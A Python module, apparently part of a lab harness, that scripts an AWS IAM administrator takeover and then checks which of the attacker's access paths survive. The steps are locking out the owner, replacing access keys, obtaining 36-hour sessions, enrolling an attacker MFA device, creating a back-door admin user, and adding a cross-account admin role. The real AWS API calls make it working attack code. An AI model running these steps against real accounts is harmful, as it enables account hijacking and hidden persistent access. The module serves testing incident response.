"""An administrator is taken over: somebody has the console password, and makes the account theirs.

The steps are those that incident reports of IAM users have in common: lock the owner out, make
credentials that outlive the password, leave back doors. AWS pages:
https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_temp_control-access_disable-perms.html,
https://docs.aws.amazon.com/STS/latest/APIReference/API_GetSessionToken.html
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pyotp

from helpers.lab.attacks.step import NO_WAY_IN, Step, attempt
from helpers.lab.caller import Caller

if TYPE_CHECKING:
    from helpers.lab.accounts import LabAccount
    from helpers.lab.lab import Lab

ADMINISTRATOR_ACCESS = "arn:aws:iam::aws:policy/AdministratorAccess"

HOME = "999988887777"
"""The thief's own account."""

THIEFS_PASSWORD = "mine-Now-forever-9"
BACK_DOOR_USER = "support-service"
BACK_DOOR_ROLE = "SupportAccess"
PHONE = "support-phone"
PASSWORD, ROLE = "the password", f"the role {BACK_DOOR_ROLE}"
LONGEST = 129_600  # seconds: 36 hours, the longest session that a user can ask for

# Harmless calls of three services: who gets an answer to one of them is in. A session of
# GetSessionToken without MFA is not let into IAM, so one service alone would not tell.
PROBES = (("s3", "list_buckets"), ("cloudtrail", "describe_trails"), ("iam", "list_users"))


class Takeover:
    """Somebody who knows the password of the IAM user ``user``.

    ``account`` is the account attacked: the lab's own, or one of ``lab.accounts``. ``run`` is the
    attack; ``tries`` asks afterwards which of the thief's ways in are still open.
    """

    def __init__(
        self, lab: Lab, user: str, password: str, *, account: LabAccount | None = None
    ) -> None:
        self.steps: list[Step] = []
        self.lab = lab
        self._account = account or lab.accounts[lab.account.id]
        self._user = user
        self._password = password
        self._clients: dict[tuple[str, str], Any] = {}
        self._phone: pyotp.TOTP | None = None
        self._console: Caller | None = None
        self._key: Caller | None = None
        self._session: Caller | None = None
        self._back_door: Caller | None = None
        self._back_door_session: Caller | None = None
        self._role_session: Caller | None = None

    # The attack -------------------------------------------------------------------------------

    def run(self) -> list[Step]:
        """Everything, in the order in which a thief would do it."""
        self.steps = []
        self._console = self._step(
            "sign in with the stolen password",
            self._account.sign_in,
            user_name=self._user,
            password=self._password,
        )
        iam = self._console.client("iam") if self._console else None
        self._change_password(iam)
        self._replace_keys(iam)
        self._enrol_phone(iam)
        self._make_user(iam)
        self._make_role(iam)
        return self.steps

    def _step(self, name: str, call: Any, **parameters: Any) -> Any:
        step, answer = attempt(name, call, **parameters)
        self.steps.append(step)
        return answer

    def _call(self, name: str, client: Any, operation: str, **parameters: Any) -> Any:
        if client is None:
            self.steps.append(Step(name, False, NO_WAY_IN))
            return None
        return self._step(name, getattr(client, operation), **parameters)

    def _change_password(self, iam: Any) -> None:
        changed = self._call(
            "set a new password: the owner is out",
            iam,
            "update_login_profile",
            UserName=self._user,
            Password=THIEFS_PASSWORD,
        )
        if changed is not None:
            self._password = THIEFS_PASSWORD

    def _replace_keys(self, iam: Any) -> None:
        found = self._call("list the owner's keys", iam, "list_access_keys", UserName=self._user)
        for key in found["AccessKeyMetadata"] if found else ():
            self._call(
                "delete a key of the owner's",
                iam,
                "delete_access_key",
                UserName=self._user,
                AccessKeyId=key["AccessKeyId"],
            )
        made = self._call("make an access key", iam, "create_access_key", UserName=self._user)
        self._key = _with_key(made)
        self._session = self._session_of("trade the key for a session of 36 hours", self._key)

    def _session_of(self, name: str, key: Caller | None) -> Caller | None:
        sts = key.client("sts") if key else None
        return _with_session(self._call(name, sts, "get_session_token", DurationSeconds=LONGEST))

    def _enrol_phone(self, iam: Any) -> None:
        name = "enrol a phone, which the console asks for"
        step, made = (
            attempt(name, iam.create_virtual_mfa_device, VirtualMFADeviceName=PHONE)
            if iam
            else (Step(name, False, NO_WAY_IN), None)
        )
        if made is None:
            self.steps.append(step)
            return
        device, now = made["VirtualMFADevice"], self.lab.clock.now
        phone = pyotp.TOTP(device["Base32StringSeed"].decode())
        enabled = self._call(
            name,
            iam,
            "enable_mfa_device",
            UserName=self._user,
            SerialNumber=device["SerialNumber"],
            AuthenticationCode1=phone.at(now),
            AuthenticationCode2=phone.at(now, counter_offset=1),
        )
        self._phone = phone if enabled is not None else None

    def _make_user(self, iam: Any) -> None:
        name = f"make a back-door user, {BACK_DOOR_USER}"
        if self._call(name, iam, "create_user", UserName=BACK_DOOR_USER) is None:
            return
        self._call(
            "give the user AdministratorAccess",
            iam,
            "attach_user_policy",
            UserName=BACK_DOOR_USER,
            PolicyArn=ADMINISTRATOR_ACCESS,
        )
        made = self._call(
            "make an access key for it", iam, "create_access_key", UserName=BACK_DOOR_USER
        )
        self._back_door = _with_key(made)
        self._back_door_session = self._session_of("trade that for a session, too", self._back_door)

    def _make_role(self, iam: Any) -> None:
        trust = {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Effect": "Allow",
                    "Principal": {"AWS": f"arn:aws:iam::{HOME}:root"},
                    "Action": "sts:AssumeRole",
                }
            ],
        }
        made = self._call(
            f"make a role for the thief, {BACK_DOOR_ROLE}",
            iam,
            "create_role",
            RoleName=BACK_DOOR_ROLE,
            AssumeRolePolicyDocument=json.dumps(trust),
        )
        if made is None:
            return
        self._call(
            "give the role AdministratorAccess",
            iam,
            "attach_role_policy",
            RoleName=BACK_DOOR_ROLE,
            PolicyArn=ADMINISTRATOR_ACCESS,
        )
        self._role_session = _with_session(
            self._step("come in by the role, from the thief's account", self._assume)
        )

    def _assume(self) -> Any:
        role = f"arn:aws:iam::{self._account.id}:role/{BACK_DOOR_ROLE}"
        sts = at_home(self.lab).client("sts")
        return sts.assume_role(RoleArn=role, RoleSessionName="support", DurationSeconds=3600)

    # And afterwards ---------------------------------------------------------------------------

    def tries(self) -> dict[str, Step]:
        """Every way in that the thief made, tried once more: name of the way → how it went.

        A way that the attack never got is stopped by ``NO_WAY_IN``. A minute passes, for a
        code is good once, and the phone was enrolled with this half minute's and the next.
        """
        self.lab.clock.advance(seconds=60)
        held = {
            "the open console session": self._console,
            "the access key": self._key,
            "the session made with the key": self._session,
            f"the key of {BACK_DOOR_USER}": self._back_door,
            f"the session of {BACK_DOOR_USER}": self._back_door_session,
        }
        return {
            PASSWORD: self._sign_in_again(),
            **{name: self._probe(caller, name) for name, caller in held.items()},
            ROLE: self._role_again(),
        }

    def _probe(self, caller: Caller | None, name: str) -> Step:
        step = Step(name, False, NO_WAY_IN)
        for service, operation in PROBES if caller else ():
            held = (caller.access_key_id, service)
            if held not in self._clients:
                self._clients[held] = caller.client(service)
            step, _ = attempt(name, getattr(self._clients[held], operation))
            if step.worked:
                break
        return step

    def _sign_in_again(self) -> Step:
        code = self._phone.at(self.lab.clock.now) if self._phone else None
        step, found = attempt(
            PASSWORD,
            self._account.sign_in,
            user_name=self._user,
            password=self._password,
            mfa_code=code,
        )
        return step if found is None else self._probe(found, PASSWORD)

    def _role_again(self) -> Step:
        old = self._probe(self._role_session, ROLE)
        if old.worked or self._role_session is None:
            return old
        step, made = attempt(ROLE, self._assume)
        return step if made is None else self._probe(_with_session(made), ROLE)


def _with_key(made: Any) -> Caller | None:
    if made is None:
        return None
    key = made["AccessKey"]
    return Caller(key["UserName"], "", key["AccessKeyId"], key["SecretAccessKey"])


def _with_session(made: Any) -> Caller | None:
    if made is None:
        return None
    parts = made["Credentials"]
    return Caller(
        "session",
        "",
        parts["AccessKeyId"],
        parts["SecretAccessKey"],
        parts["SessionToken"],
        parts["Expiration"],
    )


def thiefs_home(lab: Lab) -> LabAccount:
    """The thief's own account, which is added to the lab when it is first asked for."""
    return lab.accounts[HOME] if HOME in lab.accounts else lab.add_account(HOME, "Thief")


def at_home(lab: Lab) -> Caller:
    """An IAM user of the thief's own account, who may do everything there."""
    home = thiefs_home(lab)
    iam = home.root.client("iam")
    if not any(user["UserName"] == "thief" for user in iam.list_users()["Users"]):
        iam.create_user(UserName="thief")
        iam.attach_user_policy(UserName="thief", PolicyArn=ADMINISTRATOR_ACCESS)
    return home.caller("thief")
